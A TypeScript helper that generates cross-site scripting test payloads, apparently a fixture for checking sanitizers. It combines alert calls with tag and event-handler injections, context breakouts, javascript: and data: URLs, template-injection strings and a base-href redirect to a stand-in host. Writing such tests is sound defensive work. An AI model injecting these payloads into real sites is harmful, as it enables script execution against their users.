/** Ways to make a page run a script, put together from parts, so that there are enough of them; each one calls `alert`. */
export function scriptPayloads(count: number): string[] {
  const calls = [
    'alert(1)',
    'window.alert`1`',
    'top["al"+"ert"](1)',
    '(alert)(1)',
    '[1].map(alert)',
    'self.alert(1)',
  ];
  const tags = [
    'img',
    'svg',
    'body',
    'iframe',
    'video',
    'audio',
    'input',
    'details',
    'object',
    'math',
    'marquee',
    'select',
  ];
  const events = [
    'onerror',
    'onload',
    'onfocus',
    'ontoggle',
    'onpointerover',
    'onanimationstart',
    'onbegin',
    'onstart',
  ];
  const wraps = [
    (call: string) => `<script>${call}</script>`,
    (call: string) => `"><script>${call}</script>`,
    (call: string) => `'};${call};//`,
    (call: string) => `</script><script>${call}</script>`,
    (call: string) => `</textarea><script>${call}</script>`,
    (call: string) => `</title><svg/onload=${call}>`,
    (call: string) => `javascript:${call}`,
    (call: string) => `<a href="javascript:${call}">x</a>`,
    (call: string) => `[x](javascript:${call})`,
    (call: string) => `{@html "<img src=x onerror=${call}>"}`,
    (call: string) => `\${${call}}{{constructor.constructor('${call}')()}}`,
    (call: string) => `<iframe srcdoc="<script>${call}</script>">`,
    (call: string) => `<base href=//evil.example><form action=javascript:${call}><button>`,
    (call: string) => `&lt;script&gt;${call}&lt;/script&gt;`,
    (call: string) => `\u003cscript\u003e${call}\u003c/script\u003e`,
    (call: string) => `http://x.example/"onmouseover="${call}`,
  ];
  const made = [
    ...wraps.flatMap((wrap) => calls.map(wrap)),
    ...tags.flatMap((tag) =>
      events.flatMap((event) => calls.map((call) => `"><${tag} src=x autofocus open ${event}=${call}>`)),
    ),
    ...tags.flatMap((tag) => events.map((event) => `<${tag.toUpperCase()}/x\t${event}\n=alert(1)//`)),
    ...calls.flatMap((call) =>
      ['java\tscript:', 'data:text/html,', ' javascript:', 'JaVaScRiPt:'].map((s) => `${s}${call}`),
    ),
  ];
  if (made.length < count) throw new Error(`only ${made.length} payloads were made`);
  // Spread over the kinds, the same ones in every run.
  return Array.from({ length: count }, (_, i) => made[Math.floor((i * made.length) / count)]!);
}
